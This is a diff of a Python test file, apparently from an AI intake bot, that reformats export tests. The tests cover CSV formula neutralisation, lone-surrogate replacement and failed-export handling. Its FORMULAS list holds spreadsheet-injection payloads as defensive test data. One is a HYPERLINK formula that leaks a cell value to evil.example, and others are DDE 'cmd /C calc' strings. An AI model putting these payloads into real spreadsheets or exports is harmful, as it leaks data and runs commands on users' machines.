@@ -20,8 +20,14 @@ from bot.export import CSV_COLUMNS, csv_row, export
 from tests.harness import Harness, write_config
 from tests.test_cli import ROOT, base_env
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"refund")', "+SUM(1,2)", "-2+3 refund window", "@SUM(A1:A9)",
-            "\tcmd|' /C calc'!A0", "\rcmd|' /C calc'!A0"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"refund")',
+    "+SUM(1,2)",
+    "-2+3 refund window",
+    "@SUM(A1:A9)",
+    "\tcmd|' /C calc'!A0",
+    "\rcmd|' /C calc'!A0",
+]
 
 
 def run(h: Harness, fmt: str) -> str:
@@ -47,10 +53,18 @@ def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(harness: Harn
 @pytest.mark.parametrize("text", FORMULAS)
 def test_every_formula_start_owasp_names_is_neutralised_in_any_text_cell(text: str) -> None:
     row = {name: None for name in CSV_COLUMNS}
-    row.update(key="AIR-1", title=text, description=text, requester=text, domain=text,
-               sla={"first_response": dict.fromkeys(("due_at", "state", "business_seconds_elapsed", "paused_seconds")),
-                    "resolution": dict.fromkeys(("due_at", "state", "business_seconds_elapsed", "paused_seconds"))},
-               court_seconds={"requester": 12.5})
+    row.update(
+        key="AIR-1",
+        title=text,
+        description=text,
+        requester=text,
+        domain=text,
+        sla={
+            "first_response": dict.fromkeys(("due_at", "state", "business_seconds_elapsed", "paused_seconds")),
+            "resolution": dict.fromkeys(("due_at", "state", "business_seconds_elapsed", "paused_seconds")),
+        },
+        court_seconds={"requester": 12.5},
+    )
     cells = csv_row(row)
     for name in ("title", "description", "requester", "domain"):
         assert cells[name] == "'" + text
@@ -59,11 +73,22 @@ def test_every_formula_start_owasp_names_is_neutralised_in_any_text_cell(text: s
 
 def test_numbers_stay_numbers_and_ordinary_text_is_untouched() -> None:
     row = {name: None for name in CSV_COLUMNS}
-    row.update(key="AIR-2", title="refund window – 30 days = policy", description="", confidential=False,
-               sla={"first_response": {"due_at": "2026-11-23T10:00:00.000000+00:00", "state": "met",
-                                       "business_seconds_elapsed": 1800.0, "paused_seconds": 0.0},
-                    "resolution": dict.fromkeys(("due_at", "state", "business_seconds_elapsed", "paused_seconds"))},
-               court_seconds={})
+    row.update(
+        key="AIR-2",
+        title="refund window – 30 days = policy",
+        description="",
+        confidential=False,
+        sla={
+            "first_response": {
+                "due_at": "2026-11-23T10:00:00.000000+00:00",
+                "state": "met",
+                "business_seconds_elapsed": 1800.0,
+                "paused_seconds": 0.0,
+            },
+            "resolution": dict.fromkeys(("due_at", "state", "business_seconds_elapsed", "paused_seconds")),
+        },
+        court_seconds={},
+    )
     cells = csv_row(row)
     assert cells["title"] == "refund window – 30 days = policy" and cells["description"] == ""
     assert cells["confidential"] == "false" and cells["sla_first_response_business_seconds_elapsed"] == 1800.0
@@ -81,23 +106,33 @@ def export_cli(h: Harness, tmp_path: Path, *args: str) -> subprocess.CompletedPr
     env = base_env(tmp_path)
     env["AI_INTAKE_DB"] = str(h.bot.db.path)
     env["AI_INTAKE_CONFIG"] = str(write_config(tmp_path / "c.yml"))
-    return subprocess.run([sys.executable, "-m", "bot", "export", *args], cwd=ROOT, env=env, capture_output=True, text=True,
-                          timeout=60)
+    return subprocess.run(
+        [sys.executable, "-m", "bot", "export", *args], cwd=ROOT, env=env, capture_output=True, text=True, timeout=60
+    )
 
 
-def test_a_lone_surrogate_is_replaced_at_the_door_and_the_export_writes_every_row(harness: Harness, tmp_path: Path) -> None:
+def test_a_lone_surrogate_is_replaced_at_the_door_and_the_export_writes_every_row(
+    harness: Harness, tmp_path: Path
+) -> None:
     assert harness.command("regression: refund window wrong").status == 200
     harness.settle()
     card = harness.bot.queries.get(1)
-    harness.reply_in_thread(card.card_channel, card.card_ts, "it says \ud800 14 days", user="U0REQ")  # sent as "\\ud800"
+    harness.reply_in_thread(
+        card.card_channel, card.card_ts, "it says \ud800 14 days", user="U0REQ"
+    )  # sent as "\\ud800"
     view = {**request_modal(harness.bot.config, channel="C0SUPPORT").to_dict()}
-    values = {ids.TITLE: {"type": "plain_text_input", "value": "ranking \udfff drops long queries"},
-              ids.KIND: {"type": "static_select", "selected_option": {"value": "eval"}},
-              ids.DESCRIPTION: {"type": "plain_text_input", "value": "lone \ud83d half of an emoji"}}
+    values = {
+        ids.TITLE: {"type": "plain_text_input", "value": "ranking \udfff drops long queries"},
+        ids.KIND: {"type": "static_select", "selected_option": {"value": "eval"}},
+        ids.DESCRIPTION: {"type": "plain_text_input", "value": "lone \ud83d half of an emoji"},
+    }
     assert harness.submit(view, values, user="U0REQ").status == 200
     harness.settle()
     second = harness.bot.queries.get(2)
-    assert second is not None and (second.title, second.description) == ("ranking \ufffd drops long queries", "lone \ufffd half of an emoji")
+    assert second is not None and (second.title, second.description) == (
+        "ranking \ufffd drops long queries",
+        "lone \ufffd half of an emoji",
+    )
     target = tmp_path / "all.json"
     done = export_cli(harness, tmp_path, "--format", "json", "--out", str(target))
     assert done.returncode == 0 and done.stderr == f"wrote 2 request(s) to {target}\n", done.stderr
@@ -107,12 +142,17 @@ def test_a_lone_surrogate_is_replaced_at_the_door_and_the_export_writes_every_ro
     assert rows[1]["title"] == "ranking \ufffd drops long queries"
 
 
-def test_a_surrogate_stored_before_the_door_existed_is_exported_as_a_replacement(harness: Harness, tmp_path: Path) -> None:
+def test_a_surrogate_stored_before_the_door_existed_is_exported_as_a_replacement(
+    harness: Harness, tmp_path: Path
+) -> None:
     assert harness.command("regression: refund window wrong").status == 200
     harness.settle()
     with harness.bot.db.write() as db:  # what an older bot stored: the event log keeps JSON escapes
-        db.execute("INSERT INTO events (request_id, at, actor, type, data) SELECT id, created_at, requester, 'comment', ? "
-                   "FROM requests WHERE id = 1", [json.dumps({"text": "old \ud800 reply"})])
+        db.execute(
+            "INSERT INTO events (request_id, at, actor, type, data) SELECT id, created_at, requester, 'comment', ? "
+            "FROM requests WHERE id = 1",
+            [json.dumps({"text": "old \ud800 reply"})],
+        )
     target = tmp_path / "all.json"
     assert export_cli(harness, tmp_path, "--format", "json", "--out", str(target)).returncode == 0
     assert "old \ufffd reply" in target.read_text(encoding="utf-8")
@@ -123,8 +163,10 @@ def test_a_failed_export_says_why_in_one_sentence_and_leaves_no_file(harness: Ha
         assert harness.command(text).status == 200
     harness.settle()
     with harness.bot.db.write() as db:  # a damaged event log (what the JSON reads): its data is not JSON
-        db.execute("INSERT INTO events (request_id, at, actor, type, data) SELECT id, created_at, requester, 'comment', 'not json' "
-                   "FROM requests WHERE id = 2")
+        db.execute(
+            "INSERT INTO events (request_id, at, actor, type, data) SELECT id, created_at, requester, 'comment', 'not json' "
+            "FROM requests WHERE id = 2"
+        )
     out = tmp_path / "out"
     out.mkdir()
     target = out / "all.json"
